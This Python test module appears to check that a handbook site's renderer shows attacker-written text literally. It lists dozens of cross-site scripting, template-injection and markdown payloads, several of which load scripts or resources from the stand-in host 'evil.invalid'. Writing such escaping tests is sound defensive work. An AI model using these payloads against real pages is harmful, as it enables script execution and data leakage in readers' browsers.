"""What an attacker could write as text in the hope that a reader's browser executes it."""

from __future__ import annotations

import re

HOST = "https://evil.invalid"
RAN = "top.handbookRan=1"

HTML = (
    f"<script>{RAN}</script>",
    f'<script src="{HOST}/a.js"></script>',
    f"</script><script>{RAN}</script>",
    f"</textarea></title></template><script>{RAN}</script>",
    f'"><script>{RAN}</script>',
    f"'><img src=x onerror={RAN}>",
    f"<img src=x onerror={RAN}>",
    f"<IMG SRC=x ONERROR={RAN}>",
    f'<img src="{HOST}/b.png" srcset="{HOST}/c.png 2x">',
    f"<svg onload={RAN}><script>{RAN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RAN}"><text>x</text></a></svg>',
    f'<svg><image href="{HOST}/d.png"/><use href="{HOST}/e.svg#f"/></svg>',
    f'<math href="javascript:{RAN}">x</math>',
    f'<iframe src="{HOST}/g.html" srcdoc="&lt;script&gt;{RAN}&lt;/script&gt;"></iframe>',
    f'<object data="{HOST}/h"></object><embed src="{HOST}/i">',
    f'<form action="{HOST}/j"><button formaction="javascript:{RAN}">x</button></form>',
    f'<meta http-equiv="refresh" content="0;url={HOST}/k">',
    f'<base href="{HOST}/">',
    f'<link rel="stylesheet" href="{HOST}/l.css">',
    f"<style>body{{background:url({HOST}/m.png)}}</style>",
    f'<p style="background:url({HOST}/n.png)" onmouseover="{RAN}">x</p>',
    f"<details open ontoggle={RAN}>x</details>",
    f"<input autofocus onfocus={RAN}>",
    f'<video poster="{HOST}/o.png"><source onerror={RAN}></video>',
    f'<a href="javascript:{RAN}">x</a>',
    f"<!-- x --><script>{RAN}</script>",
    f"<![CDATA[<script>{RAN}</script>]]>",
    f'<?xml-stylesheet href="{HOST}/p.css"?>',
    f"<handbook-tool data-words='{{}}'><script>{RAN}</script></handbook-tool>",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RAN}&#62;",
    "{{ self.__init__.__globals__ }} {% raw %}",
    f"${{{RAN}}} <%= {RAN} %>",
    f"[[constructor.constructor('{RAN}')()]]",
    f"javascript:{RAN}",
    "__proto__ constructor prototype",
)
"""Plain text: each must be shown as typed, wherever it is."""

MARKUP = (
    f"[lenke](javascript:{RAN})",
    f"[lenke](JaVaScRiPt:{RAN})",
    f"[lenke](java&#10;script:{RAN})",
    f"[lenke](<&#1;javascript:{RAN}>)",
    f"[lenke](data:text/html,%3Cscript%3E{RAN}%3C/script%3E)",
    f"[lenke](vbscript:{RAN})",
    f"[lenke](blob:{HOST}/q)",
    f"<javascript:{RAN}>",
    f'[lenke](https://example.no/"onclick="{RAN})',
    f"![bilde]({HOST}/r.png)",
    f"![bilde](//{HOST.partition('//')[2]}/s.png)",
    f"![bilde](javascript:{RAN})",
    f"![bilde](data:image/svg+xml,%3Csvg%20onload={RAN}%3E)",
    f"{{raw}}`<script>{RAN}</script>`",
    f"```{{raw}} html\n<script>{RAN}</script>\n```",
    f"```{{eval-rst}}\n.. raw:: html\n\n   <script>{RAN}</script>\n```",
)
"""Misleading markup: shown as text, made harmless, or refused at its place."""

ALL = " ".join(HTML)


def words(label: str) -> str:
    """Return a text with a label and all payloads."""
    return f"{label} {ALL}"


def folded(text: str) -> str:
    """Return a text with white space and quotation marks normalized for comparison."""
    plain = re.sub("[“”„«»‘’']", '"', text).replace("…", "...").replace("–", "--")
    return re.sub(r"\s+", " ", plain)


def missing(label: str, page: str) -> list[str]:
    """Return the payloads that a page does not show as typed, right after a label."""
    shown = folded(page)
    if folded(words(label)) in shown:
        return []
    return lost_in(shown) or [f"they do not stand after «{label}»"]


def lost_in(shown: str) -> list[str]:
    """Return the payloads that are not visible in a text."""
    return [payload for payload in HTML if folded(payload) not in shown]
